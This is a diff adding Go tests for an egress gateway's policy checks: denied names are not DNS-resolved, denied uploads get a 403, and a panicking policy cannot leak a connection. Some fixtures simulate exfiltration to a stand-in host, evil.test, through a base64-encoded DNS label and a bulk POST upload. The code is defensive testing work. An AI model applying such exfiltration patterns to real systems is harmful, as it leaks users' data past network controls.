@@ -2,6 +2,7 @@ package gateway
 
 import (
 	"bufio"
+	"context"
 	"crypto/tls"
 	"fmt"
 	"io"
@@ -10,6 +11,7 @@ import (
 	"net/netip"
 	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 )
@@ -431,6 +433,7 @@ func TestPlainHTTPForwarding(t *testing.T) {
 	if got := readBody(t, resp); got != payload {
 		t.Errorf("echo: %d bytes back, want %d", len(got), len(payload))
 	}
+	w.waitRecords(2) // records of different connections come in any order
 	// A chunked body through the Go client.
 	client := w.httpClient()
 	resp, err = client.Post("http://api.test/echo", "text/plain", io.MultiReader(strings.NewReader("ab"), strings.NewReader("cd")))
@@ -531,5 +534,121 @@ func TestHeaderTimeout(t *testing.T) {
 			t.Errorf("%s: silent client kept for %v (%v)", addr, time.Since(start), err)
 		}
 		c.Close()
+	}
+}
+
+// countingResolver counts lookups by name.
+type countingResolver struct {
+	Resolver
+	mu    sync.Mutex
+	names []string
+}
+
+func (r *countingResolver) LookupNetIP(ctx context.Context, host string) ([]netip.Addr, error) {
+	r.mu.Lock()
+	r.names = append(r.names, host)
+	r.mu.Unlock()
+	return r.Resolver.LookupNetIP(ctx, host)
+}
+
+// TestDeniedNameNotResolved: a name the policy denies is never looked up
+// (no DNS exfiltration through the gateway's resolver); an allowed one is,
+// once per connection.
+func TestDeniedNameNotResolved(t *testing.T) {
+	var cr *countingResolver
+	w := newWorld(t, func(c *Config) {
+		cr = &countingResolver{Resolver: c.Resolver}
+		c.Resolver = cr
+	})
+	resp, err := w.httpClient().Get("http://c2VjcmV0.evil.test/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	readBody(t, resp)
+	_, _, resp = w.connect("c2VjcmV0.evil.test:443")
+	readBody(t, resp)
+	if _, err := w.socksDial("c2VjcmV0.evil.test:443"); err == nil {
+		t.Fatal("SOCKS to a denied name")
+	}
+	resp, err = w.httpClient().Get("http://api.test/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	readBody(t, resp)
+	cr.mu.Lock()
+	defer cr.mu.Unlock()
+	if !slices.Equal(cr.names, []string{"api.test"}) {
+		t.Errorf("looked up %v, want only api.test", cr.names)
+	}
+}
+
+// TestDeniedWithBody: a denied request whose body was not read still gets
+// its 403 (the connection is not reset under the client).
+func TestDeniedWithBody(t *testing.T) {
+	w := newWorld(t, nil)
+	body := strings.Repeat("b", 1<<20)
+	resp, err := w.httpClient().Post("http://evil.test/upload", "text/plain", strings.NewReader(body))
+	if err != nil {
+		t.Fatalf("POST to a denied host: %v, want a 403", err)
+	}
+	if b := readBody(t, resp); resp.StatusCode != 403 || !strings.Contains(b, "denied evil.test:80") {
+		t.Errorf("POST to a denied host: %d %q", resp.StatusCode, b)
+	}
+	// The control: the same upload to an allowed host.
+	resp, err = w.httpClient().Post("http://api.test/echo", "text/plain", strings.NewReader(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if b := readBody(t, resp); resp.StatusCode != 200 || len(b) != len(body) {
+		t.Errorf("POST to an allowed host: %d, %d bytes", resp.StatusCode, len(b))
+	}
+}
+
+// panicky panics for one host: a bug in a Policy.
+type panicky struct{ testPolicy }
+
+func (p panicky) Host(host string, port int) Decision {
+	if host == "boom.test" {
+		panic("policy bug")
+	}
+	return p.testPolicy.Host(host, port)
+}
+
+// TestPolicyPanic: a panicking policy costs the connection (closed, so
+// nothing gets out), not the gateway.
+func TestPolicyPanic(t *testing.T) {
+	w := newWorld(t, func(c *Config) { c.Policy = panicky{allow(defaultNames)} })
+	c, err := net.Dial("tcp", w.httpProxy)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	fmt.Fprintf(c, "CONNECT boom.test:443 HTTP/1.1\r\n\r\n")
+	c.SetReadDeadline(time.Now().Add(5 * time.Second))
+	if b, _ := io.ReadAll(c); len(b) != 0 {
+		t.Errorf("answer from a panicking policy: %q", b)
+	}
+	if d := w.dials(); len(d) != 0 {
+		t.Errorf("dialed %v", d)
+	}
+	resp, err := w.httpClient().Get("http://api.test/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if readBody(t, resp); resp.StatusCode != 200 {
+		t.Errorf("after a panic: %d", resp.StatusCode)
+	}
+}
+
+func TestStaticResolver(t *testing.T) {
+	ip := netip.MustParseAddr("192.0.2.1")
+	r := &StaticResolver{Hosts: map[string][]netip.Addr{"Mixed.Test": {ip}}}
+	for _, name := range []string{"mixed.test", "MIXED.test.", "Mixed.Test"} {
+		if got, err := r.LookupNetIP(context.Background(), name); err != nil || !slices.Equal(got, []netip.Addr{ip}) {
+			t.Errorf("%s: %v %v", name, got, err)
+		}
+	}
+	if got, err := r.LookupNetIP(context.Background(), "localhost"); err == nil {
+		t.Errorf("nil fallback resolved localhost to %v", got)
 	}
 }
